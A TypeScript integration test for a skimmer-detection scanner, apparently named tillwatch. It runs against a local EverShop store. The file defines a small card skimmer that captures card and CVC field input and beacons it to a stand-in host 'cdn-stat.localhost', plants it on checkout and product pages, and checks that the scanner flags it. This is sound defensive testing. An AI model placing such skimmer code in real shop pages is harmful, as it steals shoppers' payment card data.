// EverShop, a complete shop of other authors: from a product to its payment step, with planted skimmers, and without an order.
import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { ScanResult } from '@tillwatch/contract/shapes'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { run } from '../packages/cli/test/helpers.ts'
import { type EverShop, startEverShop } from './shops/evershop.ts'
import { freePort } from './shops/installed.ts'
import { type Planted, plantIn } from './shops/plant.ts'

/** A host other than the shop's, at the same port. */
const thief = 'cdn-stat.localhost'
const skimmer = (own: string) => `addEventListener('input', ({ target }) => {
  if (/card|cvc/.test(target.name)) navigator.sendBeacon('http://${thief}:' + location.port + '/collected?${own}', btoa(target.name + '=' + target.value))
})`

let shop: EverShop
let planted: Planted
let folder: string

beforeAll(async () => {
  const port = await freePort()
  planted = await plantIn(port)
  shop = await startEverShop(port, planted.origin)
  folder = await mkdtemp(join(tmpdir(), 'tillwatch-evershop-'))
})
afterAll(async () => {
  await shop?.stop()
  await planted?.stop()
  if (folder) await rm(folder, { recursive: true, force: true })
})

async function scan(url: string): Promise<ScanResult> {
  const file = join(folder, 'result.json')
  const { host, port } = new URL(planted.origin)
  const hosts = ['--allow-private', host, '--allow-private', `${thief}:${port}`, '--resolve', `${thief}:${port}:127.0.0.1`]
  expect(await run(['scan', url, '--reach-checkout', ...hosts, '--timeout', '180', '--json', file, '--quiet'])).toMatchObject({ code: 0 })
  return JSON.parse(await readFile(file, 'utf8'))
}

it('reaches the payment step from a product, lists its scripts, and finds what was planted there and on the way', async () => {
  planted.plant('/extra/payment.js', /^\/checkout$/, skimmer('payment'))
  planted.plant('/extra/everywhere.js', new RegExp(`^(?:${new URL(shop.product).pathname}|/checkout)$`), skimmer('everywhere'))
  const result = await scan(shop.product)
  expect(result.page.finalUrl).toBe(`${planted.origin}/checkout`)
  expect(result.journey?.steps.map(({ fault }) => fault)).toEqual([null, null, null, null])
  const scripts = result.scripts.map(({ url }) => url)
  expect(scripts).toContain(`${planted.origin}/extra/payment.js`)
  expect(scripts.filter((url) => url?.includes('/assets/frontStore/checkout/')).length).toBeGreaterThan(0)
  const thieves = result.findings.filter(({ check }) => check === 'canary-left-page').map((finding) => JSON.stringify(finding))
  for (const script of ['payment.js', 'everywhere.js']) expect(thieves.join()).toContain(`/extra/${script}`)
  const product = result.journey?.views.find(({ url }) => url === shop.product)
  expect(product?.scripts.find(({ url }) => url?.endsWith('/everywhere.js'))?.survives).toBe(true)
  expect(product?.scripts.find(({ url }) => url?.includes('/assets/frontStore/productView/'))?.survives).toBe(false)
})

it('finds a product from the home page, too', async () => {
  const { journey, page } = await scan(`${planted.origin}/`)
  expect(journey?.steps.map(({ fault }) => fault)).toEqual([null, null, null, null])
  expect(page.finalUrl).toBe(`${planted.origin}/checkout`)
})

it('ordered and paid nothing', async () => {
  expect(await shop.countOrders()).toBe(0)
})
